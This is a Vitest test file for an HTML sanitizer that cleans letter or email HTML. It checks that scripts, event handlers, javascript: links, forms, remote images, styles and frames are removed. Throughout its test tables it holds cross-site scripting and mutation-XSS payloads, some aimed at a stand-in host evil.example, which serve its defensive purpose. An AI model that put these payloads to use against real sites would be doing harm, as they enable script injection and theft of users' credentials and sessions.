import { expect, test } from 'vitest'

import { hasNoText, cleanLetterHtml } from './letter-html.ts'

test('text, structure and links of a message stay', () => {
  expect(
    cleanLetterHtml(
      '<!doctype html><html><head><title>T</title></head><body><h1>Kia ora</h1><p>Your <b>bill</b> &amp; more</p>' +
        '<table><tr><td colspan="2">1</td></tr></table></body></html>',
    ),
  ).toBe(
    '<h1>Kia ora</h1><p>Your <b>bill</b> &amp; more</p><table><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
  )
})

test.each([
  ['a script', '<p>a</p><script>steal()</script>', '<p>a</p>'],
  ['a script in another spelling', '<p>a</p><ScRiPt src="https://evil.example/x.js"></sCrIpT>', '<p>a</p>'],
  ['a handler', '<p onclick="steal()" onmouseover=steal()>a</p>', '<p>a</p>'],
  ['a picture that runs', '<img src=x onerror="steal()">', ''],
  [
    'a form',
    '<form action="https://evil.example/"><p>Name</p><input name="password"><button>Send</button></form>',
    '<p>Name</p>',
  ],
  [
    'a remote picture',
    '<p><img src="https://evil.example/open.gif" alt="Our logo"></p>',
    '<p>[Our logo]</p>',
  ],
  ['a style sheet', '<link rel="stylesheet" href="https://evil.example/a.css"><p>a</p>', '<p>a</p>'],
  [
    'styles',
    '<style>@import "https://evil.example/a.css"</style><p style="background:url(//evil.example)">a</p>',
    '<p>a</p>',
  ],
  ['a frame', '<iframe src="https://evil.example/"></iframe><object data="x"></object><embed src="x">a', 'a'],
  ['a redirect', '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>a</p>', '<p>a</p>'],
  ['a base', '<base href="https://evil.example/"><p>a</p>', '<p>a</p>'],
  ['a drawing', '<svg onload="steal()"><a href="javascript:steal()">b</a></svg>a', 'a'],
  ['a formula', '<math><mtext><img src=x onerror=steal()></mtext></math>a', 'a'],
  ['a template', '<template><script>steal()</script></template>a', 'a'],
  ['a comment', '<!-- <script>steal()</script> -->a', 'a'],
  ['text that is no element', '&lt;script&gt;steal()&lt;/script&gt;', '&lt;script&gt;steal()&lt;/script&gt;'],
  ['an unknown element', '<x-card><p id="token">a</p></x-card>', '<p>a</p>'],
])('of %s nothing is left that runs, loads or asks for input', (_what, html, left) => {
  expect(cleanLetterHtml(html)).toBe(left)
})

test.each([
  ['https://help.kea.test/a', true],
  ['mailto:help@kea.test', true],
  ['tel:08005550100', true],
  ['javascript:steal()', false],
  ['JaVaScRiPt:steal()', false],
  [' \tjava\nscript:steal()', false],
  ['data:text/html,<script>steal()</script>', false],
  ['/pay', false],
  ['//evil.example/', false],
])('a link to %j leads to its address: %s', (address, leads) => {
  const link = document.createElement('a')
  link.setAttribute('href', address)
  link.textContent = 'here'

  const expected = leads
    ? `<a href="${address}" target="_blank" rel="noopener noreferrer">here</a>`
    : '<a>here</a>'
  expect(cleanLetterHtml(link.outerHTML)).toBe(expected)
})

test.each([
  '<noscript><p title="</noscript><img src=x onerror=steal()>">a</p>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=steal()&gt;">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=steal() src>">',
  '<p>b<table><p title="<script>steal()</script>">c</table>',
])('safe HTML stays safe when a browser parses it again: %s', (hostile) => {
  const again = new DOMParser().parseFromString(cleanLetterHtml(hostile), 'text/html')

  expect(again.querySelector('script, img, form, style, svg, math, [onerror]')).toBeNull()
})

test.each([
  ['<p> </p>', true],
  ['<script>steal()</script>', true],
  ['<img src="https://evil.example/open.gif">', true],
  ['<p>a</p>', false],
  ['<img src="https://evil.example/open.gif" alt="Our logo">', false],
])('COM-009 nothing is left to read in %s: %s', (html, empty) => {
  expect(hasNoText(cleanLetterHtml(html))).toBe(empty)
})
